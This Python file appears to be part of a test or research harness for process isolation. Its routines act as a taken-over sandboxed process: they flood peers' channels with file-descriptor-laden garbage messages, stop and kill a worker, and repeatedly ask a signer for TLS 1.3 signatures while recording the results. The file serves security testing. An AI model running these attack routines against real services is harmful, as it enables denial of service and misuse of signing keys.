"""What is done in the place of a process that was taken over: as root, on copies of its ends of channels, so that nothing of its jail is in
the way. The next kernel may let it do the same."""

import contextlib
import os
import resource
import signal
import struct
import threading
import time

from descriptor_kinds import Made, many
from evidence import noted
from topology import Topology, carriers, send

#: The processes of the attacker's sites.
OWNED = ("bin/owned", "site far")
#: Messages of the kinds that bring descriptors, sent to whoever takes any.
NONSENSE = b"\xee" * 30
MESSAGES = 40
#: What a worker may have signed: a CertificateVerify of TLS 1.3, by ECDSA with P-256.
VERIFIED = b" " * 64 + b"TLS 1.3, server CertificateVerify\0" + bytes(32)
SCHEME = 0x0403
SIGNED = 2


def channels(server, receiver=None):
    """The channels on which the attacker's processes speak to those of others."""
    is_owned = lambda end: end.process.title.startswith(OWNED)
    there = [channel for channel in Topology.of(server).channels if is_owned(channel.sender) and not is_owned(channel.receiver)]
    return [channel for channel in there if receiver in (None, channel.receiver.role)]


def closed(descriptors):
    """Closes them, which may wait for as long as others' closing does, and is not waited for."""

    def close():
        for descriptor in descriptors:
            with contextlib.suppress(OSError):
                os.close(descriptor)

    threading.Thread(target=close, daemon=True).start()


def sent(kind, count):
    """Messages with so many descriptors of a kind each, to everybody who takes any; then the sender ends, and others take its place."""

    def attack(server):
        most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
        resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
        while True:
            for channel in channels(server):
                if channel.takes:
                    with contextlib.suppress(OSError), Made() as made:
                        send_all(channel, made, kind, count)
                        # Whoever waits until a peer has taken all would do so by now.
                        time.sleep(0.2)
                    # Whoever reads nonsense may have had it ended already.
                    with contextlib.suppress(ProcessLookupError):
                        channel.sender.process.kill()
            time.sleep(0.05)

    return attack


def send_all(channel, made, kind, count):
    framed = [data for _, number, data in carriers().get(channel.edge, ()) if number == 1]
    with contextlib.closing(channel.sender.copy()) as end:
        for number in range(MESSAGES):
            descriptors = many(made, kind, count)
            data = [NONSENSE, *framed][number % (len(framed) + 1)]
            noted(bool(descriptors) and send(end, data, descriptors))
            closed(descriptors)


@contextlib.contextmanager
def stopped_worker(victims):
    """The attacker speaks in the place of its site's worker, which hears nothing meanwhile."""
    worker = victims.server.process("site far")
    worker.signal(signal.SIGSTOP)
    try:
        yield
    finally:
        worker.signal(signal.SIGCONT)
        worker.kill()


def asks_signer(server):
    """As many signatures as the signer gives, after it was sent a descriptor, which the kernel refuses where it can."""
    channel = channels(server, "signer")[0]
    ask = lambda version: struct.pack("<BBIHIHI", 1, 1, 7, 0, version, SCHEME, len(VERIFIED)) + VERIFIED
    with contextlib.closing(channel.sender.copy()) as end, Made() as made:
        end.setblocking(True)

        def answers(version, times):
            asked = sum(send(end, ask(version)) for _ in range(times))
            return [end.recv(1 << 16)[1] for _ in range(asked)]

        # Versions are counted over all certificates.
        version = next(version for version in (2, 1, 3) if answers(version, 1) == [SIGNED])
        if send(end, ask(version), many(made, "TCP, lingering", 1)):
            noted(end.recv(1 << 16)[1] == SIGNED)
        while True:
            noted(answers(version, 16).count(SIGNED))
